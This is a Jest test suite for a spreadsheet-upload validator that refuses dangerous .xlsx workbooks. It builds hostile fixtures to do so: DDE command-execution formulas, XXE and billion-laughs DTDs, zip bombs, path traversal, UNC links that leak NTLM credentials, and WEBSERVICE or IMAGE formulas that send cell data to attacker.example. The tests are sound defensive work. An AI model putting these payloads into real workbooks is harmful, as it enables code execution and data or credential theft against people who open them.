import * as crypto from 'crypto';
import * as fs from 'fs';
import * as path from 'path';
import {
  MAX_COMPRESSION_RATIO,
  MAX_UNCOMPRESSED_BYTES,
  MAX_WORKBOOK_BYTES,
  MAX_ZIP_ENTRIES,
  checkWorkbookBytes,
  formulaRisks,
} from '../../../functions/src/templates/workbook-check';
import {
  MiB,
  ZipEntryInput,
  entryText,
  expectProblem,
  readZip,
  realXlsx,
  replaceEntry,
  replaceInEntry,
  rezip,
  rezipReplacing,
  writeZip,
  xlsmWithVbaPart,
} from './support';

const EXTERNAL_LINK_REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink';
const EXTERNAL_LINK_CT = 'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml';
const EXTERNAL_LINK_XML =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
  '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ' +
  'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">' +
  '<externalBook r:id="rId1"><sheetNames><sheetName val="Data"/></sheetNames></externalBook></externalLink>';

/** Adds `rel` to xl/_rels/workbook.xml.rels. */
function addWorkbookRel(entries: ZipEntryInput[], rel: string): void {
  replaceInEntry(entries, 'xl/_rels/workbook.xml.rels', '</Relationships>', `${rel}</Relationships>`);
}

/** 1 KiB blocks of 16 random bytes + zeros: compresses ~40:1, far below the ratio guard. */
function moderatelyCompressible(bytes: number): Buffer {
  const out = Buffer.alloc(bytes);
  for (let at = 0; at < bytes; at += 1024) crypto.randomFillSync(out, at, Math.min(16, bytes - at));
  return out;
}

describe('checkWorkbookBytes', () => {
  let xlsx: Buffer;
  beforeAll(async () => {
    xlsx = await realXlsx();
  });

  it('accepts a real workbook written by exceljs', async () => {
    const names = (await readZip(xlsx)).map((e) => e.name);
    expect(names).toEqual(expect.arrayContaining(['[Content_Types].xml', 'xl/workbook.xml']));
    await expect(checkWorkbookBytes(xlsx)).resolves.toBeUndefined();
  });

  it('accepts the same workbook re-zipped with STORE entries and UTF-16 content types', async () => {
    const stored = await rezip(xlsx, (entries) => {
      for (const entry of entries) entry.method = 0;
      const ct = entryText(entries, '[Content_Types].xml').replace('encoding="UTF-8"', 'encoding="UTF-16"');
      const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(ct, 'utf16le')]);
      entries.find((e) => e.name === '[Content_Types].xml')!.data = bytes;
    });
    await expect(checkWorkbookBytes(stored)).resolves.toBeUndefined();
  });

  describe('refuses what is not an .xlsx workbook (415)', () => {
    it('random bytes', async () => {
      await expectProblem(checkWorkbookBytes(crypto.randomBytes(4096)), 415, /not an Excel workbook.*not a zip/);
    });

    it('an empty file', async () => {
      await expectProblem(checkWorkbookBytes(Buffer.alloc(0)), 415, /not a zip/);
    });

    it('a text file renamed to .xlsx', async () => {
      const text = Buffer.from('KPI,Weight\nRevenue,0.5\nMargin,0.5\n'.repeat(50), 'utf8');
      await expectProblem(checkWorkbookBytes(text), 415, /not a zip/);
    });

    it('a legacy / encrypted compound file', async () => {
      const cfb = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1024)]);
      await expectProblem(checkWorkbookBytes(cfb), 415, /legacy \.xls|password-protected/);
    });

    it('a zip that is not OOXML (no [Content_Types].xml)', async () => {
      const zip = writeZip([{ name: 'xl/workbook.xml', data: '<workbook/>' }, { name: 'readme.txt', data: 'hi' }]);
      await expectProblem(checkWorkbookBytes(zip), 415, /\[Content_Types\]\.xml/);
    });

    it('an OOXML package without xl/workbook.xml (e.g. a .docx)', async () => {
      const docxLike = await rezip(xlsx, (entries) => entries.filter((e) => e.name !== 'xl/workbook.xml'));
      await expectProblem(checkWorkbookBytes(docxLike), 415, /xl\/workbook\.xml/);
    });

    it('a workbook part not declared as a spreadsheet', async () => {
      const odd = await rezipReplacing(xlsx, '[Content_Types].xml', 'spreadsheetml.sheet.main+xml', 'wordprocessingml.document.main+xml');
      await expectProblem(checkWorkbookBytes(odd), 415, /not declared as a spreadsheet/);
    });

    it('encrypted zip entries', async () => {
      const zip = await rezip(xlsx, () => undefined);
      // Flip the "encrypted" general-purpose bit of the first central directory record.
      const central = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
      zip.writeUInt16LE(zip.readUInt16LE(central + 8) | 1, central + 8);
      await expectProblem(checkWorkbookBytes(zip), 415, /encrypted/);
    });
  });

  describe('refuses macro-enabled workbooks (415)', () => {
    it('an .xlsm: xl/vbaProject.bin added to an exceljs workbook', async () => {
      await expectProblem(checkWorkbookBytes(await xlsmWithVbaPart()), 415, /^macro-enabled workbooks are refused$/);
    });

    it.each([
      {
        name: 'a macro content type without a vbaProject.bin part',
        part: '[Content_Types].xml',
        from: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
        to: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
        detail: /macro-enabled workbooks are refused/,
      },
      {
        name: 'a vbaProject content type hidden behind character references',
        part: '[Content_Types].xml',
        from: '</Types>',
        to: '<Default Extension="bin" ContentType="application/vnd.ms-office.&#x76;baProject"/></Types>',
        detail: /macro-enabled/,
      },
    ])('$name', async ({ part, from, to, detail }) => {
      await expectProblem(checkWorkbookBytes(await rezipReplacing(xlsx, part, from, to)), 415, detail);
    });

    it('a vbaProject.bin whose name differs only in case', async () => {
      const xlsm = await rezip(xlsx, (entries) => {
        entries.push({ name: 'XL/VbaProject.BIN', data: 'x' });
      });
      await expectProblem(checkWorkbookBytes(xlsm), 415, /macro-enabled/);
    });

    it('Excel 4.0 macro sheets', async () => {
      const xlsm = await rezip(xlsx, (entries) => {
        entries.push({ name: 'xl/macrosheets/sheet1.xml', data: '<xm:macrosheet/>' });
      });
      await expectProblem(checkWorkbookBytes(xlsm), 415, /macro-enabled/);
    });
  });

  describe('refuses external links (400)', () => {
    it('xl/externalLinks/externalLink1.xml with its relationship', async () => {
      const linked = await rezip(xlsx, (entries) => {
        entries.push({ name: 'xl/externalLinks/externalLink1.xml', data: EXTERNAL_LINK_XML });
        entries.push({
          name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
          data:
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///C:/secret/data.xlsx" TargetMode="External"/></Relationships>',
        });
        addWorkbookRel(entries, `<Relationship Id="rId99" Type="${EXTERNAL_LINK_REL}" Target="externalLinks/externalLink1.xml"/>`);
        replaceInEntry(
          entries,
          '[Content_Types].xml',
          '</Types>',
          `<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="${EXTERNAL_LINK_CT}"/></Types>`,
        );
      });
      const problem = await expectProblem(checkWorkbookBytes(linked), 400, /external links are refused/);
      expect(problem.detail).not.toMatch(/secret/);
    });

    it('an externalLink relationship alone (the part stored elsewhere)', async () => {
      const linked = await rezip(xlsx, (entries) => {
        entries.push({ name: 'xl/links/one.xml', data: EXTERNAL_LINK_XML });
        addWorkbookRel(entries, `<Relationship Id="rId99" Type="${EXTERNAL_LINK_REL}" Target="links/one.xml"/>`);
      });
      await expectProblem(checkWorkbookBytes(linked), 400, /external link relationship/);
    });

    it.each([
      {
        name: 'an externalLink content type alone',
        part: '[Content_Types].xml',
        from: '</Types>',
        to: `<Override PartName="/xl/links/one.xml" ContentType="${EXTERNAL_LINK_CT}"/></Types>`,
        detail: /external link content type/,
      },
      {
        name: '<externalReferences> in xl/workbook.xml',
        part: 'xl/workbook.xml',
        from: '</sheets>',
        to: '</sheets><externalReferences><externalReference r:id="rId42"/></externalReferences>',
        detail: /external references/,
      },
    ])('$name', async ({ part, from, to, detail }) => {
      await expectProblem(checkWorkbookBytes(await rezipReplacing(xlsx, part, from, to)), 400, detail);
    });

    it('keeps ordinary external hyperlinks (TargetMode="External" but not an external link)', async () => {
      const withHyperlink = await rezip(xlsx, (entries) => {
        entries.push({
          name: 'xl/worksheets/_rels/sheet1.xml.rels',
          data:
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com/" TargetMode="External"/></Relationships>',
        });
      });
      await expect(checkWorkbookBytes(withHyperlink)).resolves.toBeUndefined();
    });
  });

  describe('size limits and the zip-bomb guard', () => {
    it('refuses a file over 5 MiB (413) before opening it', async () => {
      const big = await rezip(xlsx, (entries) => {
        entries.push({ name: 'xl/media/image1.png', data: crypto.randomBytes(5 * MiB), method: 0 });
      });
      expect(big.length).toBeGreaterThan(MAX_WORKBOOK_BYTES);
      await expectProblem(checkWorkbookBytes(big), 413, /limit is 5242880 bytes/);
    });

    it('refuses a tiny entry that inflates past 50 MiB (413)', async () => {
      const bomb = await rezip(xlsx, (entries) => {
        entries.push({ name: 'xl/media/bomb.bin', data: Buffer.alloc(MAX_UNCOMPRESSED_BYTES + MiB) });
      });
      expect(bomb.length).toBeLessThan(200 * 1024);
      await expectProblem(checkWorkbookBytes(bomb), 413, /zip-bomb guard/);
    });

    it('refuses an entry with an absurd compression ratio even under 50 MiB (413)', async () => {
      const bomb = await rezip(xlsx, (entries) => {
        entries.push({ name: 'xl/media/zeros.bin', data: Buffer.alloc(20 * MiB) });
      });
      await expectProblem(checkWorkbookBytes(bomb), 413, new RegExp(`compression ratio above ${MAX_COMPRESSION_RATIO}:1`));
    });

    it('refuses a bomb whose headers lie about its size, by actually inflating it (413)', async () => {
      const zeros = Buffer.alloc(MAX_UNCOMPRESSED_BYTES + MiB);
      const compressedLength = (await import('zlib')).deflateRawSync(zeros, { level: 9 }).length;
      const bomb = await rezip(xlsx, (entries) => {
        // Declared as if it did not compress at all: passes the declared-size and ratio checks.
        entries.push({ name: 'xl/media/liar.bin', data: zeros, declaredSize: compressedLength });
      });
      await expectProblem(checkWorkbookBytes(bomb), 413, /inflates beyond its declared size/);
    });

    it('refuses many honest, moderately compressed entries totalling over 50 MiB (413)', async () => {
      const chunk = moderatelyCompressible(MiB);
      const bomb = await rezip(xlsx, (entries) => {
        for (let i = 0; i < 51; i++) entries.push({ name: `xl/media/part${i}.bin`, data: chunk });
      });
      expect(bomb.length).toBeLessThan(MAX_WORKBOOK_BYTES);
      await expectProblem(checkWorkbookBytes(bomb), 413, /more than 52428800 bytes/);
    });

    it('accepts 40 MiB of honest, moderately compressed data', async () => {
      const chunk = moderatelyCompressible(MiB);
      const big = await rezip(xlsx, (entries) => {
        for (let i = 0; i < 40; i++) entries.push({ name: `xl/media/part${i}.bin`, data: chunk });
      });
      await expect(checkWorkbookBytes(big)).resolves.toBeUndefined();
    });

    it(`refuses more than ${MAX_ZIP_ENTRIES} entries (413)`, async () => {
      const many = await rezip(xlsx, (entries) => {
        while (entries.length <= MAX_ZIP_ENTRIES) entries.push({ name: `xl/media/e${entries.length}.txt`, data: 'x', method: 0 });
      });
      await expectProblem(checkWorkbookBytes(many), 413, /1001 zip entries; the limit is 1000/);
    });

    it(`accepts exactly ${MAX_ZIP_ENTRIES} entries`, async () => {
      const many = await rezip(xlsx, (entries) => {
        while (entries.length < MAX_ZIP_ENTRIES) entries.push({ name: `xl/media/e${entries.length}.txt`, data: 'x', method: 0 });
      });
      await expect(checkWorkbookBytes(many)).resolves.toBeUndefined();
    });
  });

  describe('refuses corrupt archives (400)', () => {
    it('duplicate entry names (case-insensitively)', async () => {
      const dup = await rezip(xlsx, (entries) => {
        entries.push({ name: 'XL/Workbook.xml', data: '<workbook/>' });
      });
      await expectProblem(checkWorkbookBytes(dup), 400, /appears twice/);
    });

    it('path traversal in an entry name', async () => {
      const evil = await rezip(xlsx, (entries) => {
        entries.push({ name: '../../evil.txt', data: 'x' });
      });
      const problem = await expectProblem(checkWorkbookBytes(evil), 400, /corrupt/);
      expect(problem.detail).not.toMatch(/evil/);
    });

    it('truncated deflate data', async () => {
      const zip = writeZip([
        { name: '[Content_Types].xml', data: Buffer.from('not deflate at all'), method: 0 },
        { name: 'xl/workbook.xml', data: '<workbook/>'.repeat(100) },
      ]);
      // Corrupt the deflate stream of the second entry.
      const second = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x03, 0x04]));
      zip.fill(0xff, second + 30 + 'xl/workbook.xml'.length, second + 30 + 'xl/workbook.xml'.length + 4);
      await expectProblem(checkWorkbookBytes(zip), 400, /corrupt/);
    });
  });
  describe('refuses what could hurt whoever downloads the template (400, every reason listed)', () => {
    const SHEET = 'xl/worksheets/sheet1.xml';
    const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

    /** Puts `cell` (raw XML of one <c>) into row 2 of sheet1. */
    function withCell(entries: ZipEntryInput[], cell: string): void {
      replaceInEntry(entries, SHEET, '</row>', `${cell}</row>`);
    }

    function addOverride(entries: ZipEntryInput[], partName: string, contentType: string): void {
      replaceInEntry(entries, '[Content_Types].xml', '</Types>', `<Override PartName="${partName}" ContentType="${contentType}"/></Types>`);
    }

    function sheetRels(entries: ZipEntryInput[], rels: string): void {
      entries.push({
        name: 'xl/worksheets/_rels/sheet1.xml.rels',
        data: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels}</Relationships>`,
      });
    }

    async function refused(edit: (entries: ZipEntryInput[]) => void, status = 400) {
      const problem = await expectProblem(checkWorkbookBytes(await rezip(xlsx, edit)), status);
      return { problem, errors: problem.extra.errors ?? [] };
    }

    describe('DTDs anywhere', () => {
      it('a DOCTYPE with an external entity in a worksheet', async () => {
        const { problem, errors } = await refused((entries) => {
          const sheet = entryText(entries, SHEET).replace('?>', '?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>');
          replaceEntry(entries, SHEET, sheet.replace('</row>', '<c r="F1" t="inlineStr"><is><t>&xxe;</t></is></c></row>'));
        });
        expect(problem.detail).toMatch(/DOCTYPE or entity declaration \(DTD\) is refused/);
        expect(errors).toEqual([{ path: `file:${SHEET}`, message: expect.stringMatching(/DTD/) }]);
        expect(JSON.stringify(problem.extra)).not.toMatch(/passwd/);
      });

      it.each([
        ['[Content_Types].xml', '[Content_Types].xml'],
        ['a relationship part', '_rels/.rels'],
        ['the core properties', 'docProps/core.xml'],
        ['a part named like an image', 'xl/media/image1.png'],
      ])('a billion-laughs DTD in %s', async (_label, part) => {
        const { errors } = await refused((entries) => {
          const bomb = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>';
          const existing = entries.find((e) => e.name === part);
          if (existing) existing.data = entryText(entries, part).replace('?>', `?>${bomb}`);
          else entries.push({ name: part, data: `${bomb}<x>&lol2;</x>` });
        });
        expect(errors.map((e) => e.path)).toContain(`file:${part.toLowerCase()}`);
      });

      it('a DOCTYPE in a UTF-16 part stored without compression', async () => {
        const { errors } = await refused((entries) => {
          const text = entryText(entries, 'docProps/app.xml').replace('encoding="UTF-8"', 'encoding="UTF-16"').replace('?>', '?><!DOCTYPE Properties SYSTEM "http://attacker.example/x.dtd">');
          const entry = entries.find((e) => e.name === 'docProps/app.xml')!;
          entry.data = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
          entry.method = 0;
        });
        expect(errors).toEqual([{ path: 'file:docprops/app.xml', message: expect.stringMatching(/DTD/) }]);
      });

      it('keeps a workbook whose comments and strings merely mention <!DOCTYPE', async () => {
        const ok = await rezip(xlsx, (entries) => {
          replaceInEntry(entries, SHEET, '?>', '?><!-- <!DOCTYPE x> -->');
          replaceInEntry(entries, 'xl/sharedStrings.xml', '</sst>', '<si><t>&lt;!DOCTYPE html&gt;</t></si></sst>');
        });
        await expect(checkWorkbookBytes(ok)).resolves.toBeUndefined();
      });
    });

    describe('data connections and query tables', () => {
      it('xl/connections.xml with a web query, its relationship and content type', async () => {
        const { problem, errors } = await refused((entries) => {
          entries.push({
            name: 'xl/connections.xml',
            data: '<?xml version="1.0"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="q" type="4" refreshOnLoad="1"><webPr url="http://attacker.example/data"/></connection></connections>',
          });
          addWorkbookRel(entries, `<Relationship Id="rId90" Type="${REL}/connections" Target="connections.xml"/>`);
          addOverride(entries, '/xl/connections.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml');
        });
        expect(problem.detail).toMatch(/^data connections are refused/);
        expect(errors.map((e) => e.path).sort()).toEqual(['file:[Content_Types].xml', 'file:xl/_rels/workbook.xml.rels', 'file:xl/connections.xml']);
        expect(JSON.stringify(problem.extra)).not.toMatch(/attacker/);
      });

      it('a query table part', async () => {
        const { errors } = await refused((entries) => {
          entries.push({ name: 'xl/queryTables/queryTable1.xml', data: '<queryTable xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" name="q" connectionId="1"/>' });
          sheetRels(entries, `<Relationship Id="rId1" Type="${REL}/queryTable" Target="../queryTables/queryTable1.xml"/>`);
        });
        expect(errors).toEqual([
          { path: 'file:xl/querytables/querytable1.xml', message: expect.stringMatching(/query tables are refused/) },
          { path: 'file:xl/worksheets/_rels/sheet1.xml.rels', message: expect.stringMatching(/query tables are refused/) },
        ]);
      });
    });

    describe('relationships that point outside the workbook', () => {
      it('a UNC image (leaks NTLM credentials when the file opens), without echoing the target', async () => {
        const { problem, errors } = await refused((entries) => {
          entries.push({
            name: 'xl/drawings/_rels/drawing1.xml.rels',
            data:
              '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
              `<Relationship Id="rId1" Type="${REL}/image" Target="\\\\attacker.example\\share\\pixel.png" TargetMode="External"/></Relationships>`,
          });
        });
        expect(errors).toEqual([{ path: 'file:xl/drawings/_rels/drawing1.xml.rels', message: expect.stringMatching(/External-mode relationship of type "image" is refused/) }]);
        expect(JSON.stringify(problem.extra)).not.toMatch(/attacker|pixel/);
      });

      it('an attached template or OLE link in any casing of TargetMode', async () => {
        const { errors } = await refused((entries) => {
          sheetRels(entries, `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="external"/>`);
        });
        expect(errors[0].message).toMatch(/type "attachedTemplate"/);
      });

      it('keeps hyperlinks to the outside (the one kind of external relationship allowed)', async () => {
        const ok = await rezip(xlsx, (entries) => {
          sheetRels(entries, `<Relationship Id="rId1" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink" Target="mailto:hr@example.com" TargetMode="External"/>`);
        });
        await expect(checkWorkbookBytes(ok)).resolves.toBeUndefined();
      });
    });

    describe('DDE and formulas that reach the network or run code', () => {
      it.each([
        ['the classic DDE payload', `<c r="F2"><f>cmd|'/c calc'!A0</f></c>`],
        ['DDE with the pipe as a character reference', `<c r="F2"><f>cmd&#124;'/c calc'!A0</f></c>`],
        ['DDE inside a larger formula', `<c r="F2"><f>SUM(1,MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!'')</f></c>`],
      ])('%s', async (_label, cell) => {
        const { problem, errors } = await refused((entries) => withCell(entries, cell));
        expect(problem.detail).toMatch(/^DDE formulas \(app\|topic!item\) are refused/);
        expect(errors).toEqual([{ path: `file:${SHEET}`, message: expect.stringMatching(/DDE/) }]);
      });

      it('a <ddeLink> external link part (both reasons listed)', async () => {
        const { errors } = await refused((entries) => {
          entries.push({
            name: 'xl/externalLinks/externalLink1.xml',
            data: '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>',
          });
        });
        expect(errors.map((e) => e.message)).toEqual([expect.stringMatching(/external links are refused/), expect.stringMatching(/DDE links \(<ddeLink>\) are refused/)]);
      });

      it.each([
        ['WEBSERVICE in a cell', '<c r="F2" t="str"><f>_xlfn.WEBSERVICE("http://attacker.example/?"&amp;A1)</f><v></v></c>', 'WEBSERVICE'],
        ['FILTERXML of a string', '<c r="F2" t="str"><f>_xlfn.FILTERXML(A1,"//a")</f></c>', 'FILTERXML'],
        ['IMAGE (fetches a URL when calculated)', '<c r="F2"><f>_xlfn.IMAGE("https://attacker.example/p.png")</f></c>', 'IMAGE'],
        ['RTD', '<c r="F2"><f>RTD("prog.id",,"topic")</f></c>', 'RTD'],
        ['CALL into a DLL', '<c r="F2"><f>CALL("kernel32","WinExec","JCJ","calc",0)</f></c>', 'CALL'],
        ['lower case, without the prefix', '<c r="F2"><f>webservice ("http://x.example/")</f></c>', 'WEBSERVICE'],
      ])('%s', async (_label, cell, fn) => {
        const { errors } = await refused((entries) => withCell(entries, cell));
        expect(errors).toEqual([{ path: `file:${SHEET}`, message: expect.stringContaining(`formulas calling ${fn} are refused`) }]);
      });

      it('in defined names, data validation and conditional formatting too', async () => {
        const { errors } = await refused((entries) => {
          replaceInEntry(entries, 'xl/workbook.xml', '</sheets>', '</sheets><definedNames><definedName name="leak">_xlfn.WEBSERVICE("http://x.example/")</definedName></definedNames>');
          replaceEntry(
            entries,
            SHEET,
            entryText(entries, SHEET).replace(
              '</sheetData>',
              '</sheetData><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>ISNUMBER(_xlfn.FILTERXML("&lt;a/&gt;","//a"))</formula></cfRule></conditionalFormatting>' +
                '<dataValidations count="1"><dataValidation type="list" sqref="B2"><formula1>cmd|\'/c calc\'!A0</formula1></dataValidation></dataValidations>',
            ),
          );
        });
        expect(errors.map((e) => `${e.path} ${e.message.split(':')[0]}`).sort()).toEqual([
          'file:xl/workbook.xml formulas calling WEBSERVICE are refused',
          `file:${SHEET} DDE formulas (app|topic!item) are refused`,
          `file:${SHEET} formulas calling FILTERXML are refused`,
        ]);
      });

      it('keeps pipes and function names inside strings, quoted sheet names and structured references', async () => {
        const ok = await rezip(xlsx, (entries) =>
          withCell(entries, `<c r="F2" t="str"><f>"a|b"&amp;"WEBSERVICE(x)"&amp;'Q1|Q2'!A1&amp;T[[#This Row],[a'|b]]</f><v>a|b</v></c>`),
        );
        await expect(checkWorkbookBytes(ok)).resolves.toBeUndefined();
      });

      it('formulaRisks: stored forms of PerfPlan and Excel functions are harmless', () => {
        expect(formulaRisks('_xldudf_PERF_TIERED(B2:B200,Tiers!A2:B7)')).toEqual({ dde: false, network: [], code: [] });
        expect(formulaRisks('_xlfn._xlws.SORT(_xlfn.ANCHORARRAY(A2))+_xlfn.SINGLE(B1)')).toEqual({ dde: false, network: [], code: [] });
        expect(formulaRisks('_xlfn.LET(_xlpm.x,1,_xlpm.x*2)')).toEqual({ dde: false, network: [], code: [] });
        expect(formulaRisks('_xlfn._xlws.WEBSERVICE(A1)&REGISTER.ID("x","y")')).toEqual({ dde: false, network: ['WEBSERVICE'], code: ['REGISTER.ID'] });
        expect(formulaRisks('_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://x.example/"),"//a")').network.sort()).toEqual(['FILTERXML', 'WEBSERVICE']);
      });
    });

    describe('OLE objects and ActiveX', () => {
      it('an embedded OLE object: the part, the sheet element, its relationship and content type are each listed', async () => {
        const { problem, errors } = await refused((entries) => {
          entries.push({ name: 'xl/embeddings/oleObject1.bin', data: Buffer.from('d0cf11e0a1b11ae1', 'hex') });
          replaceInEntry(entries, SHEET, '</sheetData>', '</sheetData><oleObjects><oleObject progId="Package" shapeId="1025" r:id="rId1"/></oleObjects>');
          sheetRels(entries, `<Relationship Id="rId1" Type="${REL}/oleObject" Target="../embeddings/oleObject1.bin"/>`);
          addOverride(entries, '/xl/embeddings/oleObject1.bin', 'application/vnd.openxmlformats-officedocument.oleObject');
        });
        expect(problem.detail).toMatch(/^embedded or linked OLE objects are refused/);
        expect(errors.map((e) => e.path).sort()).toEqual([
          'file:[Content_Types].xml',
          'file:xl/embeddings/oleobject1.bin',
          'file:xl/worksheets/_rels/sheet1.xml.rels',
          `file:${SHEET}`,
        ]);
      });

      it('an ActiveX control', async () => {
        const { errors } = await refused((entries) => {
          entries.push({ name: 'xl/activeX/activeX1.xml', data: '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>' });
        });
        expect(errors).toEqual([{ path: 'file:xl/activex/activex1.xml', message: expect.stringMatching(/ActiveX controls are refused/) }]);
      });
    });

    it('lists every reason at once; macros among them make it 415', async () => {
      const { problem, errors } = await refused((entries) => {
        withCell(entries, `<c r="F2"><f>cmd|'/c calc'!A0</f></c>`);
        entries.push({ name: 'xl/connections.xml', data: '<connections/>' });
        entries.push({ name: 'xl/vbaProject.bin', data: 'x' });
      }, 415);
      expect(problem.detail).toMatch(/^The workbook was refused for 3 reasons: /);
      expect(errors.map((e) => e.message.split(':')[0])).toEqual(
        expect.arrayContaining(['macro-enabled workbooks are refused', 'data connections are refused', 'DDE formulas (app|topic!item) are refused']),
      );
    });
  });

  it('accepts workbooks saved by Excel itself (tests/fixtures/excel-saved)', async () => {
    const dir = path.join(__dirname, '..', '..', 'fixtures', 'excel-saved');
    const files = fs.readdirSync(dir).filter((f) => f.endsWith('.xlsx'));
    expect(files.length).toBeGreaterThan(0);
    for (const file of files) await expect(checkWorkbookBytes(fs.readFileSync(path.join(dir, file))).then(() => file)).resolves.toBe(file);
  });
});
